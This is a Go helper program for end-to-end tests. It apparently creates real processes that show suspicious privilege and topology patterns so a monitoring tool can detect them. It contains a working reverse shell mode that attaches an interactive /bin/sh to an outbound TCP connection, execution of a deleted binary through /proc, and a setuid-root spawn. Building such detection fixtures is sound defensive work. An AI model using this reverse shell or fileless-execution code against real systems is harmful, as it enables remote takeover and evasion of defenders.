// Command helper is the tiny program the geometric end-to-end tests copy, make setuid, rename
// or give capabilities to, so that real processes show each privilege and topology pattern.
//
//	helper sleep SECONDS
//	helper spawn-root CMD ARGS...   run CMD as uid 0 (needs euid 0: a setuid-root copy)
//	helper spawn CMD ARGS...        run CMD as a child
//	helper deleted SRC SECONDS      copy SRC, unlink the copy, exec it (a deleted executable)
//	helper revshell ADDR            connect to ADDR and run /bin/sh -i on the socket
//	helper listen ADDR SECONDS      listen on ADDR (tcp) for SECONDS, accepting nothing
package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strconv"
	"syscall"
	"time"
)

func main() {
	if len(os.Args) < 2 {
		fail("usage: helper MODE ...")
	}
	switch os.Args[1] {
	case "sleep":
		d, _ := strconv.ParseFloat(arg(2), 64)
		time.Sleep(time.Duration(d * float64(time.Second)))
	case "spawn-root", "spawn":
		cmd := exec.Command(arg(2), os.Args[3:]...)
		cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
		if os.Args[1] == "spawn-root" {
			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 0, Gid: 0}}
		}
		if err := cmd.Run(); err != nil {
			fail(err.Error())
		}
	case "deleted":
		src, err := os.Open(arg(2))
		if err != nil {
			fail(err.Error())
		}
		f, err := os.CreateTemp(os.Getenv("HELPER_DIR"), "gone-")
		if err != nil {
			fail(err.Error())
		}
		if _, err := io.Copy(f, src); err != nil {
			fail(err.Error())
		}
		_ = f.Chmod(0o755)
		name := f.Name()
		_ = f.Close()
		// Keep a read-only descriptor, unlink the file, and execute it through /proc.
		ro, err := os.Open(name)
		if err != nil {
			fail(err.Error())
		}
		_ = os.Remove(name)
		path := "/proc/self/fd/" + strconv.Itoa(int(ro.Fd()))
		fail(syscall.Exec(path, []string{"gone", arg(3)}, os.Environ()).Error())
	case "revshell":
		c, err := net.Dial("tcp", arg(2))
		if err != nil {
			fail(err.Error())
		}
		f, err := c.(*net.TCPConn).File()
		if err != nil {
			fail(err.Error())
		}
		cmd := exec.Command("/bin/sh", "-i")
		cmd.Stdin, cmd.Stdout, cmd.Stderr = f, f, f
		if err := cmd.Run(); err != nil {
			fail(err.Error())
		}
	case "listen":
		ln, err := net.Listen("tcp", arg(2))
		if err != nil {
			fail(err.Error())
		}
		d, _ := strconv.ParseFloat(arg(3), 64)
		time.Sleep(time.Duration(d * float64(time.Second)))
		_ = ln.Close()
	default:
		fail("unknown mode " + os.Args[1])
	}
}

func arg(i int) string {
	if i >= len(os.Args) {
		fail("missing argument")
	}
	return os.Args[i]
}

func fail(msg string) {
	fmt.Fprintln(os.Stderr, "helper:", msg)
	os.Exit(2)
}
